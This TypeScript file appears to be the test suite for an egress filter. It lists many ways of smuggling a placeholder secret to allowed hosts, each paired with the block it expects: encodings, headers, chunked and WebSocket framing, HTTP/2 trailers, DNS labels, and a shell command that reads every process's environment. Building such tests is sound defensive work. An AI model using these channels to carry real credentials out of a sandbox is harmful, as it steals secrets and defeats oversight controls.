import type { Attack } from '../attack.ts';
import { connectTo, numbered, request, toWeb } from './steps.ts';

const HOST = 'Host: allowed.test';
const get = (path: string, ...fields: readonly string[]): Attack['step'] =>
  toWeb(request(`GET ${path} HTTP/1.1`, HOST, 'Connection: close', ...fields));
/** `{CL}` becomes the length of the body in the attacker, for only he knows the placeholder. */
const post = (body: string, ...fields: readonly string[]): Attack['step'] =>
  toWeb(`${request('POST /x HTTP/1.1', HOST, 'Connection: close', 'Content-Length: {CL}', ...fields)}${body}`);
const chunked = (...chunks: readonly string[]): Attack['step'] =>
  toWeb(request('POST /x HTTP/1.1', HOST, 'Transfer-Encoding: chunked'), ...chunks);
const toOwn = (line: string, ...fields: readonly string[]): Attack['step'] => ({
  kind: 'tls',
  to: 'own.test:443',
  name: 'own.test',
  pieces: [request(line, 'Host: own.test', 'Connection: close', ...fields)],
});
const SECRET = 'secret:egress';

const TEXTS: readonly (readonly [string, string])[] = [
  ['as it is', '{KEY}'],
  ['in base64', '{B64}'],
  ['in base64, behind one byte', '{B641}'],
  ['in base64, behind two bytes', '{B642}'],
  ['in base64 for URLs', '{B64URL}'],
  ['in hexadecimal', '{HEX}'],
  ['in hexadecimal, capitals', '{HEXUP}'],
  ['percent-encoded', '{PCT}'],
  ['percent-encoded twice', '{PCT2}'],
];

/** The placeholder of a key, which is for own.test, on its way to a host that is allowed. */
export const secrets: readonly Attack[] = numbered('X', 'secrets', [
  ...TEXTS.map(([how, text]) => ({ what: `the key in a path, ${how}`, step: get(`/${text}`), stopped: SECRET })),
  ...TEXTS.map(([how, text]) => ({ what: `the key in a query, ${how}`, step: get(`/?q=a&b=${text}`), stopped: SECRET })),
  ...TEXTS.map(([how, text]) => ({
    what: `the key in a field, ${how}`,
    step: get('/', `X-Note: note ${text}`),
    stopped: SECRET,
  })),
  ...TEXTS.map(([how, text]) => ({ what: `the key in a body, ${how}`, step: post(`note=${text}&more`), stopped: SECRET })),
  { what: 'the key in the name of a field', step: get('/', '{KEY}: x'), stopped: SECRET },
  { what: 'the key as a cookie', step: get('/', 'Cookie: a=b; k={KEY}'), stopped: SECRET },
  { what: 'the key as a password (Basic)', step: get('/', 'Authorization: Basic {B64}'), stopped: SECRET },
  { what: 'the key in a referrer', step: get('/', 'Referer: http://x/?{PCT}'), stopped: SECRET },
  {
    what: 'the key as a method',
    step: toWeb(request('{KEY} / HTTP/1.1', HOST)),
    stopped: ['network.malformed', 'network.mismatch', SECRET],
  },
  { what: 'the key in JSON with escapes', step: post('{"a":"{JSONU}"}', 'content-type: application/json'), stopped: SECRET },
  { what: 'the key in base64 in lines', step: post('{B64LINES}'), stopped: SECRET },
  {
    what: 'the key in a form with several parts',
    step: post(
      '--b\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n{KEY}\r\n--b--\r\n',
      'content-type: multipart/form-data; boundary=b',
    ),
    stopped: SECRET,
  },
  { what: 'the key in two chunks', step: chunked('14\r\n{FIRST}\r\n', '1c\r\n{REST}\r\n0\r\n\r\n'), stopped: SECRET },
  { what: 'the key in chunks of a byte', step: chunked('1\r\n{EACH:\r\n1\r\n}\r\n0\r\n\r\n'), stopped: SECRET },
  { what: 'the key in a chunk extension', step: chunked('1;x="{KEY}"\r\na\r\n0\r\n\r\n'), stopped: ['hello /x', SECRET] },
  { what: 'the key in trailers', step: chunked('1\r\na\r\n0\r\nX-Note: {KEY}\r\n\r\n'), stopped: ['hello /x', SECRET] },
  { what: 'the key in a WebSocket', step: { kind: 'websocket', to: 'allowed.test:80', frames: ['note {KEY}'] }, stopped: SECRET },
  {
    what: 'the key in two frames of a WebSocket',
    step: { kind: 'websocket', to: 'allowed.test:80', frames: ['{FIRST}', '{REST}'] },
    stopped: SECRET,
  },
  {
    what: 'the key in base64 in a WebSocket',
    step: { kind: 'websocket', to: 'allowed.test:80', frames: ['{B641}'] },
    stopped: SECRET,
  },
  {
    what: 'the key on a connection that is not HTTP',
    step: { kind: 'write', to: 'allowed.test:9000', pieces: ['note {KEY}\r\n'] },
    stopped: SECRET,
  },
  {
    what: 'the key behind the greeting of a server',
    step: { kind: 'write', to: 'allowed.test:2525', silent: 500, pieces: ['AUTH {B64}\r\n'] },
    stopped: SECRET,
  },
  {
    what: 'the key to a port of its own host where it is not for',
    step: { kind: 'write', to: 'own.test:9000', pieces: ['{KEY}'] },
    stopped: ['ENOTFOUND', 'EACCES', 'network.unlisted', SECRET],
  },
  {
    what: 'the key to the inspected host',
    step: {
      kind: 'tls',
      to: 'api.test:443',
      name: 'api.test',
      pieces: [request('GET /open/?k={KEY} HTTP/1.1', 'Host: api.test')],
    },
    stopped: SECRET,
  },
  {
    what: 'the key to the inspected host over HTTP/2',
    step: {
      kind: 'frames',
      to: 'api.test:443',
      headers: [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':authority', 'api.test'],
        [':path', '/open/'],
        ['x-note', '{KEY}'],
      ],
    },
    stopped: SECRET,
  },
  {
    what: 'the key to the inspected host in the trailers of HTTP/2',
    step: {
      kind: 'frames',
      to: 'api.test:443',
      headers: [
        [':method', 'POST'],
        [':scheme', 'https'],
        [':authority', 'api.test'],
        [':path', '/open/x'],
      ],
      body: 'a',
      trailers: [['x-note', '{KEY}']],
    },
    stopped: ['secure /open/x', SECRET],
  },
  { what: 'the key in the path of its own host, where it is not for', step: toOwn('GET /{KEY} HTTP/1.1'), stopped: SECRET },
  {
    what: 'the answer of the own host echoes the value',
    step: toOwn('GET /echo HTTP/1.1', 'Authorization: Bearer {KEY}'),
    stopped: '[redacted:egress]',
  },
  {
    what: "the answer's fields echo the value",
    step: toOwn('GET /echo-field HTTP/1.1', 'Authorization: Bearer {KEY}'),
    stopped: 'field echoed',
  },
  {
    what: 'the value in the environment of any process',
    step: {
      kind: 'shell',
      needs: 'sh',
      command: 'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c that-is-long-enough; echo counted',
    },
    stopped: '0\ncounted',
  },
  ...[
    ['in base64, twice', '{B64X2}'],
    ['in UTF-16 and base64, as PowerShell takes its commands', '{B64WIDE}'],
    ['in base32', '{B32}'],
  ].flatMap(([how, text]) => [
    { what: `the key in a query, ${how}`, step: get(`/?q=${text}`), stopped: SECRET },
    { what: `the key in a body, ${how}`, step: post(`note=${text}&more`), stopped: SECRET },
  ]),
  { what: 'the key in a body, in UTF-16', step: post('{WIDE}'), stopped: SECRET },
  { what: 'the key in base32, in labels below a wildcard', step: connectTo('{B32LABELS}.lead.test:80'), stopped: SECRET },
  ...['/echo-reason', '/echo-gzip', '/echo-deflate', '/echo-br', '/echo-transfer'].map((path) => ({
    what: `the answer of the own host echoes the value (${path})`,
    step: toOwn(`GET ${path} HTTP/1.1`, 'Authorization: Bearer {KEY}', 'Accept-Encoding: gzip, br'),
    stopped: '[redacted:egress]',
  })),
  {
    what: 'the answer of the own host echoes the value, compressed in a way that nobody here can undo',
    step: toOwn('GET /echo-zstd HTTP/1.1', 'Authorization: Bearer {KEY}'),
    stopped: "can't be read",
  },
  {
    what: 'the same instead of a WebSocket',
    step: toOwn(
      'GET /echo-gzip HTTP/1.1',
      'Authorization: Bearer {KEY}',
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
    ),
    stopped: '[redacted:egress]',
  },
  {
    what: 'the key to its own host, in plain HTTP on the port of TLS',
    step: {
      kind: 'write',
      pieces: [request('GET http://own.test:443/key HTTP/1.1', 'Host: own.test:443', 'Authorization: Bearer {KEY}')],
    },
    stopped: 'network.mismatch',
  },
]);
